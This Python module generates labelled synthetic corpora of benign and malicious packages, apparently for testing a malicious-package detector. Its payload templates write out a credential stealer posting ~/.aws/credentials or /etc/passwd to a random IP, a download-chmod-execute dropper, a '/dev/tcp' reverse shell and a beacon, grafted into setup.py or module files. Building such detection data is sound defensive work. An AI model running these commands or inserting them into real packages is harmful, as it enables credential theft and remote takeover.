"""Seeded synthetic corpora of benign and malicious package directories.

Every malicious package is a benign scaffold with a payload fragment grafted
into ``setup.py``, ``__init__.py``, or a module file (roughly matching the
observed placement split), so the two classes overlap in style statistics and
differ in security content: IOC strings, sensitive API sequences that fire
the behavior regexes, and suspicious tokens. Benign scaffolds deliberately
include packages with legitimate base64 assets, ``join``-based formatting,
HTTP clients, and nontrivial ``setup.py`` files, which keeps single features
from being accidental class separators.

Payload families follow the observed campaign mix (stealer, dropper, trojan,
poc). Payloads are inert strings; nothing generated here executes them.
Generation is fully deterministic per (spec, seed).
"""

from __future__ import annotations

import base64 as _b64
import random
from dataclasses import dataclass
from pathlib import Path

from .ingest import SourceUnit, write_manifest
from .srcmodel import parse_unit
from .transform import detect_iocs, t_encode

FAMILIES = ("stealer", "dropper", "trojan", "poc")

_NAME_PARTS = (
    "aqua", "bolt", "cider", "dusk", "ember", "flux", "grove", "hollow",
    "iris", "jade", "kelp", "lumen", "mesa", "nimbus", "onyx", "pylon",
    "quartz", "ridge", "sable", "tundra", "umber", "vortex", "willow",
    "xenon", "yarrow", "zephyr",
)
_SUFFIXES = ("kit", "lib", "tools", "utils", "core", "sdk", "py", "lite")
_PAYLOAD_MODULES = ("telemetry", "compat", "bootstrap", "support")


@dataclass
class CorpusSpec:
    n_benign: int
    n_malicious: int
    family_weights: dict[str, float] | None = None
    obfuscated_fraction: float = 0.0
    seed: int = 0
    days: int = 10  # manifest timestamps span this many days
    benign_profile: str = "standard"  # "standard" | "shifted" (live-feed analog)

    def __post_init__(self):
        if self.n_benign < 0 or self.n_malicious < 0:
            raise ValueError("counts must be >= 0")
        if self.benign_profile not in ("standard", "shifted"):
            raise ValueError("benign_profile must be standard or shifted")
        weights = self.family_weights or {f: 1.0 / len(FAMILIES) for f in FAMILIES}
        total = sum(weights.values())
        if abs(total - 1.0) > 1e-9:
            raise ValueError("family weights must sum to 1")
        self.family_weights = weights
        if not 0.0 <= self.obfuscated_fraction <= 1.0:
            raise ValueError("obfuscated_fraction must lie in [0, 1]")
        if self.days < 1:
            raise ValueError("days must be >= 1")


def _pkg_name(rng: random.Random, taken: set[str]) -> str:
    while True:
        name = f"{rng.choice(_NAME_PARTS)}-{rng.choice(_SUFFIXES)}-{rng.randint(10, 99)}"
        if name not in taken:
            taken.add(name)
            return name


def _host(rng: random.Random) -> str:
    return f"{rng.randint(11, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _setup_py(name: str, version: str, rng: random.Random) -> str:
    style = rng.randrange(3)
    head = "from setuptools import setup, find_packages\n"
    if style == 1:
        head += (
            "\nwith open(\"README.md\") as fh:\n"
            "    long_description = fh.read()\n"
        )
    if style == 2:
        # plenty of real build scripts log or probe at import time
        head += (
            "\ntry:\n"
            "    import wheel  # noqa: F401\n"
            "except ImportError:\n"
            "    print(\"wheel not available, building sdist only\")\n"
        )
    classifiers = ""
    if rng.random() < 0.5:
        classifiers = (
            "    classifiers=[\n"
            '        "Programming Language :: Python :: 3",\n'
            '        "License :: OSI Approved :: MIT License",\n'
            "    ],\n"
        )
    body = (
        "\nsetup(\n"
        f'    name="{name}",\n'
        f'    version="{version}",\n'
        "    packages=find_packages(),\n"
        f"{classifiers}"
        ")\n"
    )
    return head + body


# --- benign scaffolds ---


def _benign_plain(rng: random.Random, module: str) -> dict[str, str]:
    a, b = rng.randint(2, 9), rng.randint(10, 99)
    return {
        f"{module}/__init__.py": '"""Small numeric helpers."""\n\n__all__ = ["scale", "shift"]\n',
        f"{module}/core.py": (
            "def scale(values, factor):\n"
            "    return [v * factor for v in values]\n\n\n"
            "def shift(values, offset):\n"
            f"    return [v + offset + {a} for v in values]\n\n\n"
            "def describe(values):\n"
            f"    total = sum(values) + {b}\n"
            '    return {"count": len(values), "total": total}\n'
        ),
        "README.md": "# utilities\n\nSmall helpers for list arithmetic.\n",
    }


def _benign_docs(rng: random.Random, module: str) -> dict[str, str]:
    return {
        f"{module}/__init__.py": '"""Text formatting helpers."""\n',
        f"{module}/fmt.py": (
            '"""Formatting routines.\n\nThese are deliberately boring.\n"""\n\n'
            "def titlecase(text):\n"
            '    return " ".join(w.capitalize() for w in text.split())\n\n\n'
            "def indent(text, width=4):\n"
            '    pad = " " * width\n'
            '    return "\\n".join(pad + line for line in text.splitlines())\n'
        ),
        "docs/index.md": "# docs\n\nUsage examples live here.\n",
        "tests/test_fmt.py": (
            f"from {module}.fmt import titlecase\n\n\n"
            "def test_titlecase():\n"
            '    assert titlecase("a b") == "A B"\n'
        ),
        "README.md": "# formatting\n",
    }


def _benign_b64_assets(rng: random.Random, module: str) -> dict[str, str]:
    blob = _b64.b64encode(bytes(rng.getrandbits(8) for _ in range(rng.randint(24, 48)))).decode()
    icon = _b64.b64encode(bytes(rng.getrandbits(8) for _ in range(rng.randint(24, 40)))).decode()
    palette = bytes(rng.getrandbits(8) for _ in range(6)).hex()
    return {
        f"{module}/__init__.py": '"""Bundled binary fixtures decoded on demand."""\n',
        f"{module}/assets.py": (
            "import base64\n\n"
            f'_LOGO = "{blob}"\n'
            f'_ICON = "{icon}"\n'
            f'_PALETTE = bytes.fromhex("{palette}")\n\n\n'
            "def logo_bytes():\n"
            "    return base64.b64decode(_LOGO)\n\n\n"
            "def icon_bytes():\n"
            "    return base64.b64decode(_ICON)\n\n\n"
            "def banner(parts):\n"
            '    return "-".join(parts) + "!"\n'
        ),
        "README.md": "# assets\n\nBundled fixtures.\n",
    }


def _benign_net_client(rng: random.Random, module: str) -> dict[str, str]:
    return {
        f"{module}/__init__.py": '"""Thin JSON API client."""\n',
        f"{module}/client.py": (
            "import requests\n\n"
            f'BASE_URL = "https://api.example-{rng.randint(1, 60)}.com/v1"\n\n\n'
            "def fetch_status(session_timeout=10):\n"
            '    response = requests.get(BASE_URL + "/status", timeout=session_timeout)\n'
            "    return response.json()\n"
        ),
        "README.md": "# client\n\nA very small API client.\n",
    }


def _benign_filetool(rng: random.Random, module: str) -> dict[str, str]:
    return {
        f"{module}/__init__.py": '"""Local file inventory helpers."""\n',
        f"{module}/files.py": (
            "def read_lines(path):\n"
            "    with open(path) as fh:\n"
            "        return fh.readlines()\n\n\n"
            "def write_report(path, rows):\n"
            '    with open(path, "w") as fh:\n'
            "        for row in rows:\n"
            '            fh.write(str(row) + "\\n")\n'
        ),
        ".gitignore": "*.pyc\n",
        "README.md": "# files\n",
    }


def _benign_telemetry(rng: random.Random, module: str) -> dict[str, str]:
    # legitimate usage-reporting: interpreter fingerprint posted to a vendor
    # domain (sys is not security-cataloged, so no behavior sequence fires)
    return {
        f"{module}/__init__.py": '"""Opt-in usage metrics."""\n',
        f"{module}/metrics.py": (
            "import sys\n"
            "import requests\n\n"
            f'ENDPOINT = "https://metrics.vendor-{rng.randint(1, 40)}.io/v2/usage"\n\n\n'
            "def report(event, enabled=False):\n"
            "    if not enabled:\n"
            "        return None\n"
            '    payload = {"event": event, "python": sys.version.split()[0]}\n'
            "    return requests.post(ENDPOINT, json=payload, timeout=2)\n"
        ),
        "README.md": "# metrics\n\nOpt-in usage reporting.\n",
    }


def _benign_plugin(rng: random.Random, module: str) -> dict[str, str]:
    # getattr dispatch, dynamic backend imports, and bytearray checksums are
    # everyday idioms in real plugin systems
    backend = rng.choice(("json", "csv", "configparser"))
    return {
        f"{module}/__init__.py": '"""Plugin registry."""\n',
        f"{module}/registry.py": (
            "class Handlers:\n"
            "    def on_start(self):\n"
            "        return \"start\"\n\n"
            "    def on_stop(self):\n"
            "        return \"stop\"\n\n\n"
            "def dispatch(name, default=None):\n"
            '    handler = getattr(Handlers(), "on_" + name, None)\n'
            "    if handler is None:\n"
            '        handler = getattr(Handlers(), "on_start")\n'
            "    return handler() if handler else default\n\n\n"
            "def load_backend(name=None):\n"
            f'    return __import__(name or "{backend}")\n\n\n'
            "def checksum(chunks):\n"
            f"    acc = bytearray({rng.randint(2, 8)})\n"
            "    for chunk in chunks:\n"
            "        acc.extend(bytes(chunk))\n"
            "    return sum(acc) % 255\n"
        ),
        "README.md": "# registry\n",
    }


def _benign_backup(rng: random.Random, module: str) -> dict[str, str]:
    # the classic false-positive archetype: read local files, upload them
    return {
        f"{module}/__init__.py": '"""Folder snapshot uploader."""\n',
        f"{module}/backup.py": (
            "import requests\n\n"
            f'UPLOAD_URL = "https://backup.host-{rng.randint(1, 50)}.net/api/snapshots"\n\n\n'
            "def snapshot(paths, token=None):\n"
            "    bundle = []\n"
            "    for p in paths:\n"
            "        with open(p) as fh:\n"
            "            bundle.append(fh.read())\n"
            '    return requests.post(UPLOAD_URL, json={"files": bundle}, timeout=30)\n'
        ),
        "README.md": "# backup\n\nUploads folder snapshots to your own server.\n",
    }


def _junk_name(rng: random.Random) -> str:
    return "_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(8, 12)))


def _benign_protected(rng: random.Random, module: str) -> dict[str, str]:
    # commercially packed/generated benign code: opaque identifiers, encoded
    # blobs, dead guard branches; the texture of protector-tool output
    blob = _b64.b64encode(bytes(rng.getrandbits(8) for _ in range(rng.randint(60, 120)))).decode()
    key = rng.randint(3, 250)
    n1, n2, n3, n4, n5 = (_junk_name(rng) for _ in range(5))
    guard1, guard2 = rng.randint(100, 900), rng.randint(100, 900)
    return {
        f"{module}/__init__.py": '"""Vendor runtime (protected distribution)."""\n',
        f"{module}/runtime.py": (
            "import base64\n"
            "import zlib\n\n"
            f'{n1} = "{blob}"\n'
            f"{n2} = bytes([{key}])\n"
            f"{n3} = {guard1}\n"
            f"if {n3} < 0:\n"
            f"    {n4} = {guard2}\n\n\n"
            f"def {n5}():\n"
            f"    raw = base64.b64decode({n1})\n"
            f"    return bytes(b ^ {n2}[0] for b in raw)\n\n\n"
            "def table():\n"
            f"    packed = {n5}()\n"
            '    names = "|".join(str(b) for b in bytearray(packed[:8]))\n'
            "    return getattr(names, \"split\")(\"|\")\n"
        ),
        f"{module}/{_junk_name(rng)[1:]}.py": (
            f"{_junk_name(rng)} = {rng.randint(1, 999)}\n"
            f'{_junk_name(rng)} = "{rng.choice(("shim", "cache", "legacy"))}"\n'
            f"{_junk_name(rng)} = [{rng.randint(1, 99)}, {rng.randint(1, 99)}]\n"
        ),
        "README.md": "# runtime\n\nProtected vendor runtime.\n",
    }


_BENIGN_TEMPLATES = (
    _benign_plain,
    _benign_docs,
    _benign_b64_assets,
    _benign_net_client,
    _benign_filetool,
    _benign_telemetry,
    _benign_plugin,
)

# live-feed analog: adds the false-positive-prone archetypes that real
# registries contain (uploaders that fire behavior sequences, protected code
# that carries obfuscation markers)
_BENIGN_TEMPLATES_SHIFTED = _BENIGN_TEMPLATES + (
    _benign_backup,
    _benign_protected,
    _benign_protected,
)


# --- payload fragments (inert strings; never executed by the generator) ---


def _payload_stealer(rng: random.Random) -> str:
    host = _host(rng)
    exfil = f"http://{host}:{rng.randint(2000, 9000)}/collect"
    target = rng.choices(
        ('"/etc/passwd"', '"~/.aws/credentials"', '"~/.config/app/session.json"',
         '"~/.local/share/app/state.db"'),
        weights=(0.15, 0.15, 0.35, 0.35),
    )[0]
    return (
        "import platform\n"
        "import getpass\n"
        "import requests\n\n\n"
        "def _refresh_state():\n"
        "    info = {\n"
        '        "os": platform.system(),\n'
        '        "node": platform.node(),\n'
        '        "user": getpass.getuser(),\n'
        "    }\n"
        f"    with open({target}) as fh:\n"
        '        info["extra"] = fh.readlines()\n'
        f'    requests.post("{exfil}", json=info, timeout=5)\n\n\n'
        "_refresh_state()\n"
    )


def _payload_dropper(rng: random.Random) -> str:
    host = _host(rng)
    url = f"http://{host}/payload-{rng.randint(100, 999)}.bin"
    tag = rng.randint(10, 99)
    cmd = f"chmod +x /tmp/.cache-{tag} && /tmp/.cache-{tag}"
    return (
        "import os\n"
        "import urllib.request\n\n\n"
        "def _refresh_assets():\n"
        f'    urllib.request.urlretrieve("{url}", "/tmp/.cache-{tag}")\n'
        f'    os.system("{cmd}")\n\n\n'
        "_refresh_assets()\n"
    )


def _payload_trojan(rng: random.Random) -> str:
    host = _host(rng)
    shell = f"bash -i >& /dev/tcp/{host}/{rng.randint(1024, 65000)} 0>&1"
    return (
        "import socket\n"
        "import os\n\n\n"
        "def _ensure_compat():\n"
        f'    probe = socket.create_connection(("{host}", 53), timeout=3)\n'
        "    probe.close()\n"
        f'    os.system("{shell}")\n\n\n'
        "_ensure_compat()\n"
    )


def _payload_poc(rng: random.Random) -> str:
    host = _host(rng)
    beacon = f"http://{host}/beacon?id={rng.randint(1000, 9999)}"
    return (
        "import platform\n"
        "import requests\n\n"
        "_fingerprint = platform.platform()\n"
        f'requests.get("{beacon}", params={{"os": _fingerprint}}, timeout=3)\n'
    )


_PAYLOADS = {
    "stealer": _payload_stealer,
    "dropper": _payload_dropper,
    "trojan": _payload_trojan,
    "poc": _payload_poc,
}


def _graft_payload(files: dict[str, str], setup_text: str, payload: str, module: str,
                   rng: random.Random) -> tuple[dict[str, str], str]:
    """Place the payload per the observed split: module file, setup.py, __init__.py."""
    placement = rng.choices(("module", "setup", "init"), weights=(0.41, 0.38, 0.21))[0]
    files = dict(files)
    if placement == "setup":
        setup_text = payload + "\n" + setup_text
    elif placement == "init":
        init_path = f"{module}/__init__.py"
        files[init_path] = files.get(init_path, "") + "\n" + payload
    else:
        files[f"{module}/{rng.choice(_PAYLOAD_MODULES)}.py"] = payload
    return files, setup_text


def _obfuscate_files(files: dict[str, str], rng: random.Random) -> dict[str, str]:
    """Pre-encode every plaintext IOC literal in the template files."""
    out = {}
    for path, text in files.items():
        if not path.endswith(".py"):
            out[path] = text
            continue
        basename = path.rsplit("/", 1)[-1]
        unit = SourceUnit(path, text, "metadata" if basename == "setup.py" else "source")
        changed = True
        while changed:
            changed = False
            tree = parse_unit(unit)
            if not tree.parse_ok:
                break
            for ioc in detect_iocs(tree):
                unit = t_encode(unit, ioc, rng.choice(("base64", "base32", "base16", "hex")))
                changed = True
                break
        out[path] = unit.text
    return out


def generate(spec: CorpusSpec, dest) -> list[dict]:
    """Write the corpus under ``dest`` and return its manifest entries."""
    root = Path(dest)
    root.mkdir(parents=True, exist_ok=True)
    master = random.Random(spec.seed)
    taken: set[str] = set()
    entries = []
    plan: list[tuple[str, str | None]] = [("benign", None)] * spec.n_benign
    families = list(_PAYLOADS)
    weights = [spec.family_weights[f] for f in families]
    for _ in range(spec.n_malicious):
        plan.append(("malicious", master.choices(families, weights=weights)[0]))
    n_obf = round(spec.obfuscated_fraction * spec.n_malicious)
    obf_flags = [True] * n_obf + [False] * (spec.n_malicious - n_obf)
    master.shuffle(obf_flags)

    templates = _BENIGN_TEMPLATES if spec.benign_profile == "standard" else _BENIGN_TEMPLATES_SHIFTED
    mal_index = 0
    for index, (label, family) in enumerate(plan):
        rng = random.Random((spec.seed << 20) ^ ((index * 2654435761) & 0xFFFFFFFF))
        name = _pkg_name(rng, taken)
        version = f"{rng.randint(0, 3)}.{rng.randint(0, 9)}.{rng.randint(0, 9)}"
        module = name.replace("-", "_")
        files = rng.choice(templates)(rng, module)
        setup_text = _setup_py(name, version, rng)
        if label == "malicious":
            payload = _PAYLOADS[family](rng)
            files, setup_text = _graft_payload(files, setup_text, payload, module, rng)
            if obf_flags[mal_index]:
                files["setup.py"] = setup_text
                files = _obfuscate_files(files, rng)
                setup_text = files.pop("setup.py")
            mal_index += 1
        files["setup.py"] = setup_text
        pkg_dir = root / f"{name}-{version}"
        for rel, text in sorted(files.items()):
            target = pkg_dir / rel
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text, encoding="utf-8")
        day = master.randrange(spec.days)
        entries.append(
            {
                "name": name,
                "version": version,
                # relative to the manifest so corpora are byte-identical and portable
                "path": pkg_dir.name,
                "label": label,
                "origin": "local",
                "published_at": f"2025-01-{day + 1:02d}T12:00:00",
            }
        )
    write_manifest(entries, root / "manifest.jsonl")
    return entries
